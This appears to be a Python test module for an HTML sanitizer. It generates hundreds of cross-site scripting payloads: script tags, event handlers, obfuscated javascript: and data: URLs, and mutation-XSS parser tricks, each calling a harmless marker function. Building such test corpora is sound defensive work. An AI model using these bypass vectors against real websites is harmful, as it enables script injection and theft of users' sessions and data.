"""Markup that runs script in some browser if it is let through: families of payloads, ours."""

from __future__ import annotations

import html
from collections.abc import Iterator

RUN = "parent.ran(1)"

HANDLED = (
    *("img src=x onerror", "img src=x onload", "body onload", "svg onload", "svg/onload", "video src=x onerror"),
    *("audio src=x onerror", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus"),
    *("details open ontoggle", "marquee onstart", "iframe onload", "object data=x onerror", "embed src=x onerror"),
    *(
        "p onmouseover",
        "a href=# onclick",
        "div onpointerover",
        "ul background=x onload",
        "b style=x onfocus tabindex=1",
    ),
    *("img src=x:x onerror", "math onload", "form onsubmit", "style onload", "link rel=stylesheet href=x onerror"),
    *("script src=x onerror", "source onerror", "isindex onfocus", "keygen autofocus onfocus", "image src=x onerror"),
    *("x-y onclick", "frameset onload", "blockquote onclick", "q onscroll", "svg><animate onbegin", "svg><set onend"),
)
QUOTED = ("{} ={}", "{}='{}'", '{}="{}"', "{}\n=\n{}", "{}=`{}`", "{}&#61;{}")

ADDRESSED = (
    *(
        '<a href="{}">x</a>',
        '<img src="{}">',
        '<iframe src="{}"></iframe>',
        '<form action="{}"><input type=submit></form>',
    ),
    *("<a href={}>x</a>", "<a href='{}'>x</a>", '<object data="{}"></object>', '<embed src="{}">', '<base href="{}">'),
    *('<button formaction="{}">x</button>', '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<link href="{}">'),
    *(
        '<meta http-equiv=refresh content="0;url={}">',
        '<area href="{}">',
        '<video poster="{}"></video>',
        '<q cite="{}">x</q>',
    ),
    *(
        '<blockquote cite="{}">x</blockquote>',
        '<img srcset="{} 1x">',
        '<body background="{}">',
        '<math href="{}">x</math>',
    ),
    *('<a href=" {}">x</a>', '<a ping="{}" href="#">x</a>', '<img longdesc="{}">', '<input type=image src="{}">'),
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"&#x6A;&#x61;vascript&colon;{RUN}",
    f"&#0000106avascript:{RUN}",
    f"java&Tab;script:{RUN}",
    f"java&#0;script:{RUN}",
    f"javascript://x.example/%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKDEpPC9zY3JpcHQ+",
    f"data:image/svg+xml,<svg onload={RUN}>",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"livescript:{RUN}",
    f"blob:javascript:{RUN}",
)

BARE = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"<script\n>{RUN}</script\n>",
    f"<script>{RUN}",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script>&#112;arent.ran(1)</script></svg>",
    f"<math><script>{RUN}</script></math>",
    f"<!--><script>{RUN}</script>-->",
    f"<!--!><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}> -->",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"<?xml ?><script>{RUN}</script>",
    f"<!x><script>{RUN}</script>",
    f"</x><img src=x onerror={RUN}>",
    f"<title><img src=x onerror={RUN}></title>",
    f"<textarea><img src=x onerror={RUN}></textarea>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
    f"<noembed><p title=\"</noembed><img src=x onerror={RUN}>\"></noembed>",
    f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\"></xmp>",
    f"<plaintext><img src=x onerror={RUN}>",
    f"<style><img src=\"</style><img src=x onerror={RUN}>\"></style>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
    f"<svg><desc><style><img src=\"</style><img src=x onerror={RUN}>\"></desc></svg>",
    f"<svg><foreignObject><iframe srcdoc=\"<script>{RUN}</script>\"></foreignObject></svg>",
    f"<math><annotation-xml encoding=text/html><script>{RUN}</script></annotation-xml></math>",
    f"<math><mi//xlink:href=\"data:x,<script>{RUN}</script>\">",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f"<iframe srcdoc=\"&lt;script&gt;{RUN}&lt;/script&gt;\"></iframe>",
    f"<object><param name=src value=\"javascript:{RUN}\"></object>",
    f"<img src=\"x` `<script>{RUN}</script>\"` `>",
    f"<img \"\"\"><script>{RUN}</script>\">",
    f"<img src=x onerror=\"{RUN}\" <b>",
    f"<img/src/onerror={RUN}>",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<img\x00src=x onerror={RUN}>",
    f"<im\x00g src=x onerror={RUN}>",
    f"<a href=x><a href=\"javascript:{RUN}\">y</a>",
    f"<p style=\"background:url(javascript:{RUN})\">x</p>",
    f"<p style=\"width:expression({RUN})\">x</p>",
    f"<style>@import 'javascript:{RUN}';</style>",
    f"<link rel=import href=\"data:text/html,<script>{RUN}</script>\">",
    f"<p id=\"x\" is=\"x-y\" onclick={RUN} autofocus tabindex=0>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<b>{'<i>' * 50}<img src=x onerror={RUN}>",
    f"{'<div>' * 600}<img src=x onerror={RUN}>",
    f"<a title=\"{'x' * 5000}\" href=\"javascript:{RUN}\">y</a>",
    f"<img alt=\"--><script>{RUN}</script>\" src=x>",
    f"<img alt='\"><img src=x onerror={RUN}>' src=x>",
    f"<a href='https://x.example/\"><img src=x onerror={RUN}>'>y</a>",
    f"<p>&lt;img src=x onerror={RUN}&gt;</p>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"<details open><summary>x</summary><img src=x onerror={RUN}></details>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"></svg>",
    f"<svg><animate xlink:href=#a attributeName=href values=javascript:{RUN} /><a id=a><text>x</text></a></svg>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    yield from BARE
    for start in HANDLED:
        for quoted in QUOTED:
            element, _, handler = start.rpartition(" ")
            if not element:
                element, _, handler = start.rpartition("/")
            yield f"<{element} {quoted.format(handler, RUN)}>x"
    for form in ADDRESSED:
        for address in ADDRESSES:
            yield form.replace("{}", address)
    yield from (html.escape(payload) for payload in BARE)
